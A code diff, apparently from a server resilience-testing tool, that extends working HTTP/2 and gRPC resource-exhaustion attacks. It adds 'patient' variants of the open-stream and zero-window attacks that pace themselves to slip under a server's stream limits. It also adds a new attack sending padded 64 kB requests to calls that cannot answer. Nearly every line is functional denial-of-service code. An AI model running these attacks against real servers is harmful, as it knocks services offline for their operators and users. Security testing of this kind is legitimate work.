@@ -1,3 +1,4 @@
+import { setTimeout as wait } from "node:timers/promises"
 import { gzipSync } from "node:zlib"
 import {
   CONTINUATION,
@@ -32,6 +33,17 @@ const BATCH_BYTES = 65_536
 /** Beyond what any server should take on one connection; then the attacker waits. */
 const MOST_STREAMS = 40_000
 
+/** Fewer at a time than any server's limit, with time to raise that between. */
+const PATIENT_CALLS = 40
+const PATIENT_MS = 20
+
+interface Manner {
+  /** Of each stream, for what the server sends. */
+  window?: number
+  most?: number
+  patient?: boolean
+}
+
 /**
  * Opens a connection and makes calls of one kind on it, by header blocks of a
  * few bytes that refer to the first.
@@ -39,12 +51,15 @@ const MOST_STREAMS = 40_000
 async function callAfterCall(
   connection: HostileConnection,
   fields: readonly Field[],
-  { window, most = MOST_STREAMS }: { window?: number; most?: number },
+  { window, most = MOST_STREAMS, patient = false }: Manner,
   call: (streamId: number, headers: (flags: number) => Buffer) => Buffer,
 ): Promise<void> {
   const first = indexedFields(fields)
   const again = Buffer.from(fields.map((_, i) => reference(fields.length - 1 - i)))
-  await connection.send(Buffer.concat([preface, settings(window), settingsAck]))
+  if (patient) connection.answerSettings()
+  await connection.send(
+    Buffer.concat([preface, settings(window), ...(patient ? [] : [settingsAck])]),
+  )
   let batch: Buffer[] = []
   let bytes = 0
   for (let i = 0; i < most && !connection.closed; i += 1) {
@@ -53,28 +68,54 @@ async function callAfterCall(
     const frames = call(streamId, (flags) => frame(HEADERS, END_HEADERS | flags, streamId, block))
     batch.push(frames)
     bytes += frames.length
-    if (bytes < BATCH_BYTES) continue
+    if (patient ? batch.length < PATIENT_CALLS : bytes < BATCH_BYTES) continue
     await connection.send(Buffer.concat(batch))
+    if (patient) await wait(PATIENT_MS)
     batch = []
     bytes = 0
   }
   await connection.send(Buffer.concat(batch))
 }
 
+const open =
+  (manner: Manner): Attack =>
+  (address, options) =>
+    attackOn(address, options, (connection) =>
+      callAfterCall(connection, requestFields(bidiOf(options).path), manner, (_id, headers) =>
+        headers(0),
+      ),
+    )
+
 /** Calls that are opened, send nothing, and stay. */
-export const openStreams: Attack = (address, options) =>
-  attackOn(address, options, (connection) =>
-    callAfterCall(connection, requestFields(bidiOf(options).path), {}, (_id, headers) =>
-      headers(0),
-    ),
-  )
+export const openStreams = open({})
+/** The same by one that heeds the server's limit as long as it can. */
+export const patientOpenStreams = open({ patient: true })
+
+const askForRanges =
+  (manner: Manner): Attack =>
+  (address, options) => {
+    const { path, message } = serverStreamingOf(options)
+    return attackOn(address, options, (connection) =>
+      callAfterCall(connection, requestFields(path), { window: 0, ...manner }, (id, headers) =>
+        Buffer.concat([headers(0), frame(DATA, END_STREAM, id, prefixed(message))]),
+      ),
+    )
+  }
 
 /** Endless answers are asked for, and no byte of them may be sent. */
-export const zeroWindowRanges: Attack = (address, options) => {
-  const { path, message } = serverStreamingOf(options)
+export const zeroWindowRanges = askForRanges({})
+/** The same by one that heeds the server's limit as long as it can. */
+export const patientZeroWindowRanges = askForRanges({ patient: true })
+
+/** Large requests to calls that cannot answer, as many as the server takes: 64 kB each. */
+export const blockedRequests: Attack = (address, options) => {
+  const { path, message } = bidiOf(options)
+  // Field 15 of protobuf, 16,000 bytes that no contract knows.
+  const padding = Buffer.concat([Buffer.from([0x7a, 0x80, 0x7d]), Buffer.alloc(16_000)])
+  const request = prefixed(Buffer.concat([message, padding]))
   return attackOn(address, options, (connection) =>
-    callAfterCall(connection, requestFields(path), { window: 0 }, (id, headers) =>
-      Buffer.concat([headers(0), frame(DATA, END_STREAM, id, prefixed(message))]),
+    callAfterCall(connection, requestFields(path), { window: 0, patient: true }, (id, headers) =>
+      Buffer.concat([headers(0), ...Array.from({ length: 4 }, () => frame(DATA, 0, id, request))]),
     ),
   )
 }
